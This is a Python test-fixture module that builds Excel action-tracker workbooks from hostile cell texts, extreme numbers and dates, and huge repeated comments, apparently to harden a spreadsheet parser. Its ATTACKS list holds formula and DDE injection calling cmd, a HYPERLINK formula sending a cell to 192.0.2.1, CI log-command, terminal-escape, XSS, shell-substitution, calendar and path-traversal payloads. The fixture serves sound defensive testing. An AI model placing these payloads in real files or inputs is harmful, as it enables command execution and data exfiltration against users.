"""What stands in the cells: texts that a spreadsheet, terminal, calendar or build service would act on, and numbers."""

from collections.abc import Iterator
from pathlib import Path
from xml.sax.saxutils import escape

from tests.ooxml.books import STYLES as FORMATS
from tests.ooxml.books import write_zip

from .small_tracker import FRAUD, LABELS, ROWS, SHEET, Book, Build, parts, rows_xml, written

# Written as Excel writes them: _xHHHH_ stands for a character that XML does not take.
ATTACKS = (
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"Open\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "_x0009_=1+1",
    "_x000D_=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
    "::error file=a.py,line=1::broken",
    "a%0A::error::broken",
    "a\n::add-mask::b\n::stop-commands::c",
    "##[error]broken",
    "_x001B_[2J_x001B_]0;owned_x0007_ _x001B_[31mred",
    "\x9b31mred\x85next",
    "\u202efdp.exe \u2066isolated\u200e\u200f",
    "a_x0000_b_x0008_c_xFFFE_d_xD800_e_xFFFF_",
    "]]><script>alert(1)</script>&amp;&#0;",
    "\\u001b[31m \\x1b[31m ${IFS} $(touch x) `touch x`",
    "END:VEVENT\nBEGIN:VALARM\nACTION:PROCEDURE\nATTACH:http://192.0.2.1/x",
    'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"',
    "{INCLUDEPICTURE \"http://192.0.2.1/x.png\"}",
    "../../../etc/passwd",
    "%s%n{0.__class__}{number}{items}",
    "a" * 32_767,
)  # fmt: skip


def attacked(path: Path, attacks: tuple[str, ...] = ATTACKS) -> Path:
    """A tracker with the texts in each of its columns; a comment, owner, recommendation and title for every text."""
    rows: list[tuple[str, ...]] = [LABELS]
    for number, attack in enumerate(attacks, start=1):
        rows += [
            (*FRAUD, str(number), "The force should review it.", "AMBER", "March 2018", "Head of Crime", attack),
            (*FRAUD, f"{number}b", f"The force should {attack}", "AMBER", attack, attack, "The review goes on."),
            (
                f"{attack} {number}"[:200],
                "2 April 2018",
                attack[:40],
                attack,
                attack[:40],
                "TBC",
                "Head of Crime",
                attack,
            ),
        ]
    return write_zip(path, parts() | {SHEET: parts()[SHEET].replace(rows_xml().encode(), rows_xml(rows).encode())})


def values() -> Iterator[Book]:
    """Numbers, dates and errors at and beyond every end."""
    styles = FORMATS.replace("</cellXfs>", '<xf numFmtId="14"/><xf numFmtId="10"/><xf numFmtId="22"/></cellXfs>')
    for value in ("1e400", "-1e400", "NaN", "-0", "INF", "1e308", "9" * 5_000, "0x10", "1_000", "٣", "", " ", "1,5"):
        cells = [f'<c r="{letter}4" s="{style}"><v>{value}</v></c>' for letter, style in (("J", 0), ("K", 3), ("L", 4))]
        book = written(parts(f'<row r="4">{"".join(cells)}</row>', styles=styles))
        yield Book(f"the number {value[:20]!r}", book, odd=True)
    for value, read in DATES.items():
        items = ("1 GREEN 2018-09-30", f"2 AMBER {read}")
        yield Book(f"the due date {value}", _due(f'<c r="F3" s="3"><v>{value}</v></c>', styles), items=items, odd=True)
    for kind, value in OTHERS:
        cell = f'<row r="4"><c r="J4" t="{kind}"><v>{value}</v></c></row>'
        yield Book(f"the value {value!r} of the type {kind}", written(parts(cell)), odd=True)


DATES = {
    "2958465": "9999-12-31",
    "2958466": None,
    "-1": None,
    "1e400": None,
    "NaN": None,
    "1e15": None,
    "60": "1900-02-28",  # Excel has a 29 February in 1900, which the calendar has not
}
OTHERS = (("e", "#REF!"), ("e", ""), ("b", "2"), ("b", "maybe"), ("d", "2019-02-30"), ("d", "x"), ("z", "1"))


def _due(cell: str, styles: str) -> Build:
    made = parts(styles=styles)
    text = '<c r="F3" t="inlineStr"><is><t>31 March 2019</t></is></c>'
    return written(made | {SHEET: made[SHEET].replace(text.encode(), cell.encode())})


# Each sent some pattern of the reader or the rules back again and again, or is of the kind that does.
REPEATED = ("(ABC) ", "see 4 above ", "a", "a ", "1/", "31/03/2019 Now ", "(", '"', "• ", "\n- ", "1) ", "a@", "e.g. ",
            "two of which are ", "[x] ", "is completed and ", "HMICFRS ", "\u0301", "= ")  # fmt: skip


def patterns() -> Iterator[Book]:
    """Comments three times as long as Excel takes, of one thing said over and over."""
    made = parts()
    for unit in REPEATED:
        text = escape((unit * 90_000)[:90_000])
        sheet = made[SHEET].replace(escape(ROWS[2][-1]).encode(), text.encode())
        yield Book(f"a comment of {unit!r} over and over", written(made | {SHEET: sheet}), odd=True)


BOOKS = (*values(), *patterns())
